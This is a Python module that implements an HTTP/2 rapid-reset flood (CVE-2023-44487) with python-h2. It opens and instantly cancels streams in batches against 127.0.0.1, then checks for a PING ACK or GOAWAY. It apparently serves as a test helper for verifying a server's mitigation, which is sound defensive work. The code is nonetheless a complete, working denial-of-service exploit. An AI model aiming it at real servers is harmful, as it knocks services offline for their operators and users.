"""A rapid-reset client (CVE-2023-44487) on python-h2: one h2c connection (prior knowledge) that
opens streams and resets each at once (HEADERS with END_STREAM, then RST_STREAM CANCEL), a batch
of pairs per write, then sends a PING and reads until its ACK, so every frame before it has been
processed when `flood` returns."""
import socket
import time
from dataclasses import dataclass

import h2.config
import h2.connection
import h2.errors
import h2.events


@dataclass
class FloodResult:
    streams: int = 0  # opened and reset
    ping_acked: bool = False
    goaway: str | None = None  # the GOAWAY's error code, if one came


def flood(port, path, streams, batch=50, timeout=30):
    """Opens `streams` streams to 127.0.0.1:`port`, resetting each right after its HEADERS."""
    result = FloodResult()
    sock = socket.create_connection(("127.0.0.1", port), timeout=timeout)
    try:
        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
        conn.initiate_connection()
        sock.sendall(conn.data_to_send())
        headers = [(":method", "GET"), (":scheme", "http"), (":authority", f"127.0.0.1:{port}"), (":path", path)]
        while result.streams < streams:
            for _ in range(min(batch, streams - result.streams)):
                stream = conn.get_next_available_stream_id()
                conn.send_headers(stream, headers, end_stream=True)
                conn.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
                result.streams += 1
            sock.sendall(conn.data_to_send())
        conn.ping(b"rapidrst")
        sock.sendall(conn.data_to_send())
        deadline = time.monotonic() + timeout
        while not result.ping_acked and result.goaway is None:
            sock.settimeout(max(0.01, deadline - time.monotonic()))
            try:
                chunk = sock.recv(1 << 16)
            except socket.timeout:
                raise AssertionError(f"no PING ACK within {timeout}s after {result.streams} streams")
            if not chunk:
                break
            for event in conn.receive_data(chunk):
                if isinstance(event, h2.events.PingAckReceived):
                    result.ping_acked = True
                elif isinstance(event, h2.events.ConnectionTerminated):
                    result.goaway = str(event.error_code)
            outgoing = conn.data_to_send()
            if outgoing:
                sock.sendall(outgoing)
    finally:
        sock.close()
    return result
